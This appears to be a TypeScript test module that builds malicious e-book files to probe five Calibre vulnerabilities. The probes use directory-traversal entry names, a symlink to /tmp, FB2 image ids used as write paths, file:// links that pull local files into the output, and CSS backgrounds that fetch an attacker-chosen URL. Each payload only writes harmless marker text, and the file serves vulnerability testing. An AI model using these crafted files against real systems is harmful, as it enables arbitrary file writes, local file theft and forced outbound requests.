/** Holes of Calibre. */
import { harmless } from '../attacks/attack.ts';
import { epub, images, ladders } from '../attacks/book-files.ts';
import { smallPng, zip, zipOf } from '../attacks/bytes.ts';
import { byFile, type Cve } from './cve.ts';

const slow = { seconds: 90 } as const;
const climbing = '../../../../../../../../tmp/hostile-book';

export const bookHoles: readonly Cve[] = [
  byFile(
    ['CVE-2026-26064', 'Calibre', 'A path in a book leads out of the folder that it is unpacked to, so that files are written anywhere.'],
    harmless(
      '',
      'epub azw3',
      () =>
        epub({
          manifest: `<item id="x" href="${climbing}.png" media-type="image/png"/><item id="y" href="/tmp/hostile-book.css" media-type="text/css"/>`,
          more: [
            { name: climbing, data: 'words' },
            { name: `OEBPS/${climbing}.png`, data: smallPng() },
            { name: '/tmp/hostile-book.css', data: 'p{}' },
            { name: '..\\..\\..\\tmp\\hostile-book', data: 'words' },
          ],
        }),
      slow,
    ),
  ),
  byFile(
    ['CVE-2026-26065', 'Calibre', 'The same in another reader of books: names in an archive lead out of its folder.'],
    harmless(
      '',
      'htmlz epub',
      () =>
        zip([
          { name: 'index.html', data: `<html><body><p>words</p><img src="${climbing}.png"></body></html>` },
          { name: climbing, data: 'words' },
          { name: `images/${climbing}.png`, data: smallPng() },
          { name: 'images/a', data: '/tmp', mode: 0o120777 },
          { name: 'images/a/hostile-book', data: 'words' },
        ]),
      slow,
    ),
  ),
  byFile(
    ['CVE-2025-64486', 'Calibre', 'The name of an image inside an FB2 is a path, where it is written.'],
    harmless(
      '',
      'fb2 epub',
      () =>
        `<?xml version="1.0" encoding="UTF-8"?><FictionBook xmlns="http://www.gribuser.ru/xml/fictionbook/2.0"><body><section><p>words</p></section></body>${[
          climbing,
          '/tmp/hostile-book-2',
        ]
          .map(
            (name) =>
              `<binary id="${name}.png" content-type="image/png">${smallPng().toString('base64')}</binary><binary id="${name}" content-type="text/plain">d29yZHM=</binary>`,
          )
          .join('')}</FictionBook>`,
      slow,
    ),
  ),
  byFile(
    ['CVE-2023-46303', 'Calibre', 'What a page names outside of its folder becomes a part of the book.'],
    harmless(
      '',
      'htmlz epub',
      (lure) =>
        zipOf({
          'index.html': `<html><body><p>words</p>${images(lure)}<a href="file://${lure.file}">a</a></body></html>`,
          'metadata.opf': `<package xmlns="http://www.idpf.org/2007/opf"><metadata/><guide><reference type="cover" href="${ladders}${lure.image}"/></guide></package>`,
        }),
      slow,
    ),
  ),
  byFile(
    ['CVE-2026-33205', 'Calibre', 'The background of a book is fetched from any address.'],
    harmless(
      '',
      'epub pdf',
      ({ call, image }) =>
        epub({
          head: `<style>body{background-image:url("${call}")} p{background:url(file://${image});list-style-image:url("${call}")}</style>`,
          body: `<p style="background-image:url('${call}')">words</p>`,
        }),
      slow,
    ),
    'https://www.sentinelone.com/vulnerability-database/cve-2026-33205/',
  ),
];
